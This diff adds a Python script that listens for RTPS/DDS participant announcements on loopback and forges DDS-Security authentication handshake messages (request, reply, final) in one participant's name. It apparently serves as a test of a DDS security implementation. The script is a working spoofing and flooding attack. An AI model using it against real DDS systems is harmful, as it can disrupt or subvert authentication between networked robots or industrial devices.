@@ -1,0 +1,160 @@
+#!/usr/bin/env python3
+"""A stranger without a certificate, in the network namespace of two participants. It hears their announcements
+and, as soon as it knows both, forges handshake messages in the name of one to the other, which anyone in a
+network can do: the channel of the handshake is not protected.
+
+Usage: stranger.py request                an empty request to the participant that begins
+       stranger.py answered CERTIFICATE   a request with the public certificate of the participant that begins,
+                                          to the one that answers
+       stranger.py flood                  empty replies and finals to both, for 300 ms
+It says "forged N" when it is done.
+"""
+
+import os
+import socket
+import struct
+import sys
+import time
+
+STATELESS_WRITER, STATELESS_READER = bytes.fromhex("000201c3"), bytes.fromhex("000201c4")
+SPDP_WRITER, PARTICIPANT = bytes.fromhex("000100c2"), bytes.fromhex("000001c1")
+METATRAFFIC_UNICAST, SENTINEL = 0x32, 0x01
+CLASS = "DDS:Auth:PKI-DH:1.0+"
+# Any point of the curve will do as a public key for an agreement that is never finished: its generator.
+P256_GENERATOR = bytes.fromhex("046b17d1f2e12c4247f8bce6e563a440f277037d812deb33a0f4a13945d898c296"
+                               "4fe342e2fe1a7f9b8ee7eb4a7c0f9e162bce33576b315ececbb6406837bf51f5")
+
+
+class Cdr:
+    """Little endian."""
+
+    def __init__(self):
+        self.octets = bytearray()
+
+    def raw(self, octets):
+        self.octets += octets
+        return self
+
+    def align(self, size):
+        self.octets += bytes(-len(self.octets) % size)
+        return self
+
+    def u32(self, value):
+        return self.align(4).raw(struct.pack("<I", value))
+
+    def i64(self, value):
+        return self.align(8).raw(struct.pack("<q", value))
+
+    def text(self, text):
+        octets = text.encode() + b"\0"
+        return self.u32(len(octets)).raw(octets)
+
+    def sequence(self, octets):
+        return self.u32(len(octets)).raw(octets)
+
+
+def handshake(source, to, number, kind, properties=()):
+    """A whole RTPS message with a ParticipantGenericMessage (DDS-Security 7.4.4.4)."""
+    cdr = Cdr().raw(source + STATELESS_WRITER).i64(number).raw(bytes(16)).i64(0)
+    cdr.raw(to + PARTICIPANT).raw(bytes(32)).text("dds.sec.auth").u32(1)
+    cdr.text(CLASS + kind).u32(0).u32(len(properties))
+    for name, value in properties:
+        cdr.text(name).sequence(value)
+    body = (struct.pack("<HH", 0, 16) + STATELESS_READER + STATELESS_WRITER + struct.pack("<iI", 0, number)
+            + b"\0\1\0\0" + bytes(cdr.align(4).octets))
+    return (b"RTPS\2\1\1\x10" + source + struct.pack("<BBH", 0x0e, 1, 12) + to
+            + struct.pack("<BBH", 0x15, 0x05, len(body)) + body)
+
+
+def public_request(certificate, of):
+    data = struct.pack(">HH", 0x50, 16) + of + PARTICIPANT + struct.pack(">HH", SENTINEL, 0)
+    return [("c.id", certificate), ("c.perm", b"\0"), ("c.pdata", data), ("c.dsign_algo", b"ECDSA-SHA256\0"),
+            ("c.kagree_algo", b"ECDH+prime256v1-CEUM\0"), ("dh1", P256_GENERATOR), ("challenge1", os.urandom(32))]
+
+
+def submessages(message):
+    at = 20
+    while at + 4 <= len(message):
+        kind, flags = message[at], message[at + 1]
+        size, = struct.unpack_from("<H" if flags & 1 else ">H", message, at + 2)
+        if size == 0 and kind not in (1, 9):
+            size = len(message) - at - 4
+        yield kind, flags, message[at + 4:at + 4 + size]
+        at += 4 + size
+
+
+def parameters(octets):
+    at = 0
+    while at + 4 <= len(octets):
+        name, size = struct.unpack_from("<HH", octets, at)
+        if name == SENTINEL:
+            return
+        yield name, octets[at + 4:at + 4 + size]
+        at += 4 + size
+
+
+def unicast_port(message):
+    """Of an announcement."""
+    for kind, flags, body in submessages(message):
+        if kind != 0x15 or body[8:12] != SPDP_WRITER or not flags & 4 or not flags & 1:
+            continue
+        at = 4 + struct.unpack_from("<H", body, 2)[0]
+        if flags & 2:
+            at += sum(4 + len(value) for _, value in parameters(body[at:])) + 4
+        for name, value in parameters(body[at + 4:]):
+            if name == METATRAFFIC_UNICAST:
+                return struct.unpack_from("<I", value, 4)[0]
+    return None
+
+
+class Network:
+    def __init__(self):
+        self.packets = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
+        self.packets.bind(("lo", 0))
+        self.out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+        self.ports, self.sent = {}, 0
+
+    def hear_two(self):
+        while len(self.ports) < 2:
+            packet = self.packets.recv(1 << 16)
+            datagram = packet[(packet[0] & 15) * 4 + 8:]
+            if packet[9] != socket.IPPROTO_UDP or datagram[:4] != b"RTPS":
+                continue
+            if port := unicast_port(datagram):
+                self.ports[datagram[8:20]] = port
+        return sorted(self.ports)  # the lower begins
+
+    def send(self, to, message):
+        self.out.sendto(message, ("127.0.0.1", self.ports[to]))
+        self.sent += 1
+
+    def repeat(self, seconds, pause, send):
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
+            send()
+            time.sleep(pause)
+
+
+def main():
+    mode, network = sys.argv[1], Network()
+    if mode == "answered":
+        with open(sys.argv[2], "rb") as file:
+            certificate = file.read()
+    print("listening", flush=True)
+    begins, answers = network.hear_two()
+    if mode == "request":
+        message = handshake(answers, begins, 1000, "Req")
+        network.repeat(0.03, 0.001, lambda: network.send(begins, message))
+    elif mode == "answered":
+        message = handshake(begins, answers, 1000, "Req", public_request(certificate, begins))
+        network.repeat(0.03, 0.002, lambda: network.send(answers, message))
+    else:
+        def both():
+            network.send(answers, handshake(begins, answers, 1, "Final"))
+            network.send(begins, handshake(answers, begins, 1, "Reply"))
+        network.repeat(0.3, 0.0003, both)
+    print(f"forged {network.sent}", flush=True)
+
+
+if __name__ == "__main__":
+    main()
